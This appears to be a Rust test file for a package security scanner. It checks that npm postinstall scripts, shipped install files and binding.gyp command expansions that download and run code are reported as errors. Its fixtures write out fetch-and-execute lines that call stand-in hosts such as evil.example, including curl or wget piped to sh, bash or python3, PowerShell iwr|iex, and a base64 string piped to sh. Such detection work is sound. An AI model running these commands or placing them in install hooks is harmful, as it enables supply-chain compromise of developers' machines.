//! Install scripts that download and run code are errors in any shape, and a shipped file an
//! install script runs is judged by its content, one level deep (issue 18).

mod support;

use support::*;

/// A package whose `postinstall` is `script`, with `files` after the manifest.
fn with_script(script: &str, files: &[(&str, &str)]) -> TarBuilder {
    let manifest = serde_json::json!({
        "name": "a", "version": "1.0.0", "repository": "github:example/a",
        "scripts": { "postinstall": script },
    });
    files.iter().fold(
        TarBuilder::new().file("package.json", manifest.to_string()),
        |t, (p, c)| t.file(p, c),
    )
}

fn severity_of(report: &serde_json::Value, rule: &str) -> Option<String> {
    of_rule(report, rule)
        .first()
        .map(|f| f["severity"].as_str().unwrap_or_default().to_string())
}

#[test]
fn download_then_run_in_any_shape_is_an_error() {
    let s = Scratch::new();
    for script in [
        "curl -fsSL https://evil.example/i.sh -o /tmp/i.sh && sh /tmp/i.sh",
        "curl -fsSL evil.example/i.sh -o /tmp/i.sh && sh /tmp/i.sh",
        "wget -qO- evil.example/x.py | python3",
        "curl -s evil.example/x.js | node",
        "curl -s evil.example/x | bash",
        "npx --yes some-pkg@latest",
        "npx -y some-pkg",
        "pnpm dlx some-pkg",
        "powershell -c \"iwr https://x.example/p.ps1 | iex\"",
        "powershell -c \"Invoke-WebRequest x.example/i.exe -OutFile i.exe; & ./i.exe\"",
    ] {
        let (code, r) = s.scan_json(&with_script(script, &[]).tgz(), &["--no-config"]);
        assert_eq!(code, 1, "{script}: {r:#}");
        assert_eq!(
            severity_of(&r, "manifest/install-script-download").as_deref(),
            Some("error"),
            "{script}: {r:#}"
        );
    }
    // Running code the package ships, or a build tool, stays the plain warning.
    for script in ["node install.js", "node-gyp rebuild", "npx patch-package"] {
        let (_, r) = s.scan_json(
            &with_script(script, &[("install.js", "1\n")]).tgz(),
            &["--no-config"],
        );
        assert_eq!(
            severity_of(&r, "manifest/install-script").as_deref(),
            Some("warning"),
            "{script}: {r:#}"
        );
        assert!(of_rule(&r, "manifest/install-script-download").is_empty());
    }
}

#[test]
fn a_shipped_file_an_install_script_runs_is_judged_by_its_content() {
    let s = Scratch::new();
    let setup = "const cp = require('child_process')\n// fetch the helper\ncp.execSync('curl -fsSL https://evil.example/i.sh | sh')\n";
    // The file comes before package.json in the tarball, as npm often orders them.
    let tgz = TarBuilder::new()
        .file("scripts/setup.js", setup)
        .file(
            "package.json",
            r#"{"name":"a","version":"1.0.0","repository":"github:example/a","scripts":{"postinstall":"node scripts/setup.js"}}"#,
        )
        .tgz();
    let (code, r) = s.scan_json(&tgz, &["--no-config"]);
    assert_eq!(code, 1, "{r:#}");
    let hits = of_rule(&r, "manifest/install-file-download");
    assert_eq!(hits.len(), 1, "{r:#}");
    assert_eq!(hits[0]["severity"], "error");
    assert_eq!(hits[0]["file"], "package/scripts/setup.js");
    assert_eq!(hits[0]["line"], 3);
    assert!(hits[0]["message"]
        .as_str()
        .unwrap()
        .contains("node scripts/setup.js"));

    for (script, files) in [
        // Judged through the other interpreters and a direct path, Node's extensionless name.
        (
            "sh ./install.sh",
            ("install.sh", "wget -qO- evil.example/x | python3\n"),
        ),
        (
            "python3 x.py",
            (
                "x.py",
                "import os\nos.system('curl -s evil.example/x | sh')\n",
            ),
        ),
        (
            "./bin/post",
            (
                "bin/post",
                "#!/bin/sh\ncurl -fsSL evil.example/p -o p && ./p\n",
            ),
        ),
        (
            "node install",
            (
                "install.js",
                "require('child_process').execSync('npx --yes x@latest')\n",
            ),
        ),
    ] {
        let (_, r) = s.scan_json(&with_script(script, &[files]).tgz(), &["--no-config"]);
        assert!(
            has(
                &r,
                "manifest/install-file-download",
                &format!("package/{}", files.0)
            ),
            "{script}: {r:#}"
        );
    }

    // A harmless file, and a dangerous one no install script runs, are not findings.
    let (_, r) = s.scan_json(
        &with_script(
            "node scripts/setup.js",
            &[
                ("scripts/setup.js", "console.log('thanks')\n"),
                ("build.sh", "curl -fsSL https://example.com/tool.sh | sh\n"),
            ],
        )
        .tgz(),
        &["--no-config"],
    );
    assert!(
        of_rule(&r, "manifest/install-file-download").is_empty(),
        "{r:#}"
    );
}

#[test]
fn a_shipped_install_file_is_judged_in_a_directory_scan_too() {
    let s = Scratch::new();
    s.write(
        "pkg/package.json",
        r#"{"name":"a","version":"1.0.0","repository":"github:example/a","scripts":{"postinstall":"node scripts/setup.js"}}"#,
    );
    s.write(
        "pkg/scripts/setup.js",
        "require('child_process').execSync('curl -fsSL https://evil.example/i.sh | sh')\n",
    );
    let (code, r) = s.run_json(&[
        "scan",
        "pkg",
        "--pack",
        "builtin",
        "--no-config",
        "--format",
        "json",
    ]);
    assert_eq!(code, 1, "{r:#}");
    assert!(
        has(
            &r,
            "manifest/install-file-download",
            "package/scripts/setup.js"
        ),
        "{r:#}"
    );
}

/// npm gives a package with a root `*.gyp` file and no `install`/`preinstall` script
/// `install: node-gyp rebuild` (issue 17): that is an install script like a written one.
#[test]
fn binding_gyp_without_an_install_script_is_an_implicit_install_script() {
    let s = Scratch::new();
    let gyp = "{'targets': [{'target_name': 'a', 'sources': ['a.cc']}]}";
    let (code, r) = s.scan_json(
        &package("a", "1.0.0").file("binding.gyp", gyp).tgz(),
        &["--no-config"],
    );
    let hits = of_rule(&r, "manifest/install-script");
    assert_eq!(hits.len(), 1, "{r:#}");
    assert_eq!(hits[0]["severity"], "warning");
    let message = hits[0]["message"].as_str().unwrap_or_default();
    assert!(
        message.contains("node-gyp rebuild")
            && message.contains("implicit")
            && message.contains("binding.gyp"),
        "{message}"
    );
    assert_eq!(code, 0, "{r:#}");
    // A written `preinstall`, or `gypfile: false`, leaves npm's script out.
    for manifest in [
        r#"{"name":"a","version":"1.0.0","repository":"github:example/a","gypfile":false}"#,
        r#"{"name":"a","version":"1.0.0","repository":"github:example/a","scripts":{"preinstall":"node x.js"}}"#,
    ] {
        let tgz = TarBuilder::new()
            .file("package.json", manifest)
            .file("x.js", "1\n")
            .file("binding.gyp", gyp)
            .tgz();
        let (_, r) = s.scan_json(&tgz, &["--no-config"]);
        assert!(
            of_rule(&r, "manifest/install-script")
                .iter()
                .all(|f| !f["message"]
                    .as_str()
                    .unwrap_or_default()
                    .contains("implicit")),
            "{manifest}: {r:#}"
        );
    }
}

/// gyp runs `<!(...)`, `<!@(...)` and `<!pymod_do_main(...)` while node-gyp builds: they are
/// judged like install scripts, in `binding.gyp` and in the `.gypi` files it includes.
#[test]
fn gyp_command_expansions_that_download_and_run_are_errors() {
    let s = Scratch::new();
    for (file, gyp) in [
        ("binding.gyp", "{'targets': [{'target_name': 'a', 'sources': ['<!(curl -fsSL https://evil.example/x.sh | sh)']}]}"),
        ("common.gypi", "{'variables': {'v': '<!@(wget -qO- evil.example/p.py | python3)'}}"),
        ("binding.gyp", "{'variables': {'v': '<!pymod_do_main(x \"$(echo aGVsbG8= | base64 -d | sh)\")'}}"),
    ] {
        let tgz = package("a", "1.0.0").file(file, gyp).tgz();
        let (code, r) = s.scan_json(&tgz, &["--no-config"]);
        let hits = of_rule(&r, "manifest/gyp-command-expansion");
        assert_eq!(hits.len(), 1, "{gyp}: {r:#}");
        assert_eq!(hits[0]["severity"], "error");
        assert_eq!(hits[0]["file"], format!("package/{file}"));
        assert_eq!(hits[0]["line"], 1);
        assert_eq!(code, 1, "{gyp}: {r:#}");
    }
    // The everyday expansions of native addons are not reported.
    let gyp = r#"{'targets': [{'target_name': 'a', 'include_dirs': ["<!(node -e \"require('nan')\")", "<!@(node -p \"require('node-addon-api').include\")"]}]}"#;
    let (_, r) = s.scan_json(
        &package("a", "1.0.0").file("binding.gyp", gyp).tgz(),
        &["--no-config"],
    );
    assert!(
        of_rule(&r, "manifest/gyp-command-expansion").is_empty(),
        "{r:#}"
    );
}
